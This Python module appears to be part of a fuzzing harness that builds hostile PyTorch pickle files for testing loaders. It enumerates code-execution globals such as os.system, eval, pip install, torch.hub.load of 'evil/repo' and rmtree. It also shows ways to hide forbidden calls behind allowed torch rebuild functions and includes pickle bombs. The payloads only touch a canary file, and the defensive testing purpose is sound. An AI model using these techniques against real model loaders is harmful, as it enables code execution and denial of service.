"""Pickles as attackers write them, put together instruction by instruction.

The calls are those of published attacks on model files: of the standard library (`os.system`, `builtins.eval`,
`runpy`, `pip`, `webbrowser`, …), of libraries that run text as code for a purpose of their own, and of torch's own
functions with sizes that lie.
"""

import pickle
import struct
from collections.abc import Callable
from dataclasses import dataclass
from random import Random
from typing import Any

from originals import zipped

CANARY = "regraft-fuzz-canary"  # a file that exists only if somebody's code ran
SHELL = f"touch {CANARY}"
PYTHON = f"open({CANARY!r}, 'w').close()"

CODE: list[tuple[str, str, tuple[Any, ...]]] = [
    ("os", "system", (SHELL,)),
    ("posix", "system", (SHELL,)),
    ("nt", "system", (SHELL,)),
    ("subprocess", "Popen", (["touch", CANARY],)),
    ("subprocess", "check_output", (["touch", CANARY],)),
    ("commands", "getoutput", (SHELL,)),
    ("pty", "spawn", (["touch", CANARY],)),
    ("asyncio", "create_subprocess_shell", (SHELL,)),
    ("builtins", "eval", (PYTHON,)),
    ("builtins", "exec", (PYTHON,)),
    ("__builtin__", "execfile", (CANARY,)),
    ("__builtin__", "eval", (PYTHON,)),
    ("builtins", "compile", (PYTHON, "x", "exec")),
    ("builtins", "open", (CANARY, "w")),
    ("io", "open", (CANARY, "w")),
    ("os", "open", (CANARY, 577)),
    ("builtins", "__import__", ("os",)),
    ("builtins", "getattr", ("", "join")),
    ("builtins", "bytearray", (2**35,)),
    ("operator", "attrgetter", ("system",)),
    ("importlib", "import_module", ("this",)),
    ("runpy", "_run_code", (PYTHON, {})),
    ("runpy", "run_path", (CANARY,)),
    ("code", "InteractiveInterpreter", ()),
    ("timeit", "timeit", (PYTHON,)),
    ("cProfile", "run", (PYTHON,)),
    ("pdb", "run", (PYTHON,)),
    ("bdb", "Bdb", ()),
    ("webbrowser", "open", ("file:///etc/passwd",)),
    ("pip", "main", (["install", "x"],)),
    ("pip._internal", "main", (["install", "x"],)),
    ("socket", "create_connection", (("127.0.0.1", 9),)),
    ("urllib.request", "urlopen", ("http://127.0.0.1:9/",)),
    ("ctypes", "CDLL", (CANARY,)),
    ("shutil", "rmtree", (CANARY,)),
    ("pickle", "loads", (b"cos\nsystem\n.",)),
    ("marshal", "loads", (b"",)),
    ("numpy", "load", (CANARY,)),
    ("numpy.core.multiarray", "scalar", (1, "x")),
    ("numpy._core.multiarray", "_reconstruct", (1, (0,), "b")),
    ("numpy.testing._private.utils", "runstring", (PYTHON, {})),
    ("numpy.f2py.crackfortran", "getlincoef", (PYTHON, {})),
    ("torch", "load", (CANARY,)),
    ("torch.serialization", "load", (CANARY,)),
    ("torch.hub", "load", ("evil/repo", "model")),
    ("torch.utils.collect_env", "run", (SHELL,)),
    ("torch.jit.unsupported_tensor_ops", "execWrapper", (PYTHON, {}, {})),
    ("torch.utils._config_module", "ConfigModule", ()),
    ("torch.fx.graph_module", "reduce_graph_module", ({"_code": PYTHON}, "")),
    ("torch._inductor.codecache", "compile_file", (CANARY, CANARY, "x")),
    ("torch.distributed.elastic.multiprocessing", "start_processes", ()),
    ("torch.storage", "_load_from_bytes", (b"cos\nsystem\n.",)),
    ("torch._utils", "_rebuild_wrapper_subclass", (1, 2, 3, 4, 5, 6, 7)),
    ("torch._utils", "_rebuild_meta_tensor_no_storage", (1, (2**40,), (1,), False)),
    ("torch", "Tensor", (2**33,)),
    ("torch.storage", "UntypedStorage", (2**35,)),
    ("torchvision.models.resnet", "resnet18", ()),
    ("sklearn.utils", "murmurhash3_32", ()),
]


@dataclass(frozen=True)
class Global:
    module: str
    name: str


@dataclass(frozen=True)
class Reduced:
    """A call: a function and its arguments; with a state, which is set afterwards."""

    function: Any
    arguments: Any
    state: Any = None


@dataclass(frozen=True)
class Stored:
    """A storage: class, key and number of elements as the pickle claims them."""

    kind: str
    key: Any
    count: Any
    extra: tuple[Any, ...] = ()


@dataclass(frozen=True)
class Raw:
    instructions: bytes


def assembled(value: Any, *, protocol: int = 2) -> bytes:
    """Write a value as a pickle."""
    return bytes([0x80, protocol]) + _written(value) + b"."


def _written(value: Any) -> bytes:
    match value:
        case Raw(instructions):
            return instructions
        case Global(module, name):
            return f"c{module}\n{name}\n".encode()
        case Reduced(function, arguments, state):
            built = b"" if state is None else _written(state) + b"b"
            return _written(function) + _written(arguments) + b"R" + built
        case Stored(kind, key, count, extra):
            return _written(("storage", Global("torch", kind), key, "cpu", count, *extra)) + b"Q"
        case None:
            return b"N"
        case bool():
            return b"\x88" if value else b"\x89"
        case int():
            if -(2**31) <= value < 2**31:
                return b"J" + struct.pack("<i", value)
            digits = pickle.encode_long(value)
            return b"\x8a" + bytes([len(digits)]) + digits
        case float():
            return b"G" + struct.pack(">d", value)
        case str():
            return b"X" + struct.pack("<I", len(value.encode())) + value.encode()
        case bytes():
            return _written(Reduced(Global("_codecs", "encode"), (value.decode("latin1"), "latin1")))
        case tuple():
            return b"(" + b"".join(map(_written, value)) + b"t"
        case list():
            return b"](" + b"".join(map(_written, value)) + b"e"
        case dict():
            return b"}(" + b"".join(_written(part) for pair in value.items() for part in pair) + b"u"
    raise TypeError(value)


ORDERED = Reduced(Global("collections", "OrderedDict"), ())


def tensor(random: Random, *, lies: bool = True) -> Reduced:
    """Call the function that makes a tensor of a storage of 8 bytes, with honest or with lying numbers."""
    huge = [2**40, 2**62, 2**63 - 1, 2**31, -1, 0, 2, 1.5, "2", None, 2**70]
    pick = (
        (lambda honest: random.choice(huge) if random.random() < 0.4 else honest) if lies else (lambda honest: honest)
    )
    kind = (
        random.choice(["FloatStorage", "ByteStorage", "ComplexDoubleStorage", "UntypedStorage"])
        if lies
        else "FloatStorage"
    )
    storage = Stored(kind, pick("0"), pick(2))
    size = random.choice([(pick(2),), (pick(2), pick(1)), (pick(1),) * random.randrange(80)]) if lies else (2,)
    stride = (
        tuple(random.choice([0, 1, -1, 2**40, pick(1)]) for _ in size)
        if lies and random.random() < 0.6
        else (1,) * len(size)
    )
    return Reduced(Global("torch._utils", "_rebuild_tensor_v2"), (storage, pick(0), size, stride, False, ORDERED))


def _code(random: Random) -> Any:
    module, name, arguments = random.choice(CODE)
    call = Reduced(Global(module, name), arguments)
    return random.choice([call, {"w": call}, {"state_dict": {"w": tensor(random, lies=False), "x": call}}])


def _hidden(random: Random) -> Any:
    """Put a forbidden call behind a function that torch allows."""
    module, name, arguments = random.choice(CODE)
    inner = Global(module, name)
    plain = tensor(random, lies=False)
    return {
        "0.bias": random.choice(
            [
                Reduced(
                    Global("torch._tensor", "_rebuild_from_type_v2"), (inner, Global("torch", "Tensor"), arguments, {})
                ),
                Reduced(
                    Global("torch._tensor", "_rebuild_from_type_v2"),
                    (Global("_codecs", "encode"), Global("torch", "Tensor"), ("a" * 50, "hex"), {}),
                ),
                Reduced(Global("torch._utils", "_rebuild_parameter"), (Reduced(inner, arguments), True, ORDERED)),
                Reduced(
                    Global("torch._utils", "_rebuild_parameter_with_state"),
                    (plain, True, ORDERED, {"contiguous": inner}),
                ),
                Reduced(Global("collections", "OrderedDict"), (Reduced(inner, arguments),)),
                Raw(_written(inner) + _written(arguments) + b"\x81" + _written({"a": 1}) + b"b"),
                Reduced(Reduced(Global("builtins", "getattr"), (Global("os", "path"), "join")), ("a",)),
            ]
        )
    }


def _states(random: Random) -> Any:
    """Set attributes that hide the methods of what is read."""
    names = ["items", "get", "keys", "shape", "detach", "contiguous", "cpu", "__class__", "__dict__", "data", "grad"]
    state = {name: random.choice([1, "x", None, tensor(random, lies=False)]) for name in random.sample(names, 5)}
    plain = tensor(random, lies=False)
    kept = Reduced(Global("torch._utils", "_rebuild_parameter_with_state"), (plain, True, ORDERED, state))
    return random.choice(
        [
            {"0.bias": kept},
            Reduced(Global("collections", "OrderedDict"), (), state),
            Reduced(plain.function, plain.arguments, state),
        ]
    )


def _tensors(random: Random) -> Any:
    return {f"{index}.bias": tensor(random) for index in range(random.randint(1, 4))}


def _special_tensors(random: Random) -> Any:
    plain, lying = tensor(random, lies=False), tensor(random)
    layout = Reduced(
        Global("torch.serialization", "_get_layout"), (random.choice(["torch.sparse_coo", "torch.sparse_csr"]),)
    )
    count = random.choice([2, 2**40, -1])
    sparse = Reduced(Global("torch._utils", "_rebuild_sparse_tensor"), (layout, (plain, lying, (count, count), True)))
    quantized = Reduced(
        Global("torch._utils", "_rebuild_qtensor"),
        (
            Stored("QUInt8Storage", "0", 8),
            0,
            (count,),
            (1,),
            (Global("torch", "per_tensor_affine"), 0.1, 0),
            False,
            ORDERED,
        ),
    )
    third = Reduced(
        Global("torch._utils", "_rebuild_tensor_v3"),
        (
            Stored("UntypedStorage", "0", 8),
            0,
            (count,),
            (1,),
            False,
            ORDERED,
            Global("torch", random.choice(["float8_e5m2", "uint16", "bits8"])),
        ),
    )
    return {"0.bias": random.choice([sparse, quantized, third, Reduced(Global("torch", "Size"), ((count,),))])}


def _bombs(random: Random) -> Any:
    """Write few instructions that stand for very much: laughs, hashes, depths, doublings, cycles."""
    levels = random.choice([40, 200, 3000])
    doubled_tuples = b")" + b"q\x00h\x00\x86" * levels  # each holds the one before twice
    doubled_lists = b"]" + b"q\x00](h\x00h\x00e" * levels
    deep = {"tuples": b")" + b"\x85" * 200_000, "lists": b"]" * 150_000 + b"a" * 149_999}
    hexed = b"c_codecs\nencode\n" * 40 + _written("a" * 100) + (_written("hex") + b"\x86R") * 40
    cycle = b"}q\x00(" + _written("state_dict") + b"h\x00" + _written("w") + _written(tensor(random, lies=False)) + b"u"
    many = {
        "sets": b"\x8f" * 1_200_000,
        "lists": b"]" * 1_200_000,
        "marks": b"(" * 500_000,
        "texts": _written("a") * 400_000,
    }
    choice = random.randrange(11)
    match choice:
        case 0:
            return Raw(b"}" + doubled_tuples + b"K\x01s")
        case 1:
            return {"state_dict": Raw(doubled_lists), "w": tensor(random, lies=False)}
        case 2:
            return Raw(doubled_lists)
        case 3:
            return Raw(b"}" + deep["tuples"] + b"K\x01s")
        case 4:
            return {"w": Raw(deep["lists"])}
        case 5:
            return Raw(hexed)
        case 6:
            return Raw(cycle)
        case 7:
            return Raw(random.choice(list(many.values())))
        case 8:
            return Raw(b"c__builtin__\nset\n" + _written([Raw(doubled_tuples)]) + b"\x85R")
        case 9:
            return {"x" * random.choice([10, 10**6]): tensor(random, lies=False)}
        case _:
            return Raw(b"\x8a\xff" + b"\x7f" * 255)


KINDS: dict[str, Callable[[Random], Any]] = {
    "code": _code,
    "hidden code": _hidden,
    "states": _states,
    "lying tensors": _tensors,
    "special tensors": _special_tensors,
    "bombs": _bombs,
}


def hostile_pickle(random: Random) -> tuple[str, bytes]:
    """Return a hostile file of torch, zipped or legacy, and what kind it is."""
    kind = random.choice(list(KINDS))
    value = KINDS[kind](random)
    pickled = assembled(value, protocol=random.choice([2, 2, 2, 2, 3, 4, 0]))
    if random.random() < 0.1:
        pickled = pickled[: random.randrange(len(pickled))]
    record = struct.pack("<ff", 1.0, 2.0)
    if random.random() < 0.6:
        return kind, zipped(pickled, {"0": record[: random.choice([8, 8, 8, 4, 0])]})
    magic = assembled(0x1950A86A20F9469CFC6C) + assembled(1001) + assembled({"little_endian": True})
    pickled = pickled.replace(
        b"J\x02\x00\x00\x00tQ", b"J\x02\x00\x00\x00NtQ"
    )  # legacy storages say that they are no view
    body = [magic + pickled + assembled(["0"]) + struct.pack("<q", 2) + record, pickled, magic + pickled]
    return f"{kind}, legacy", random.choice(body)
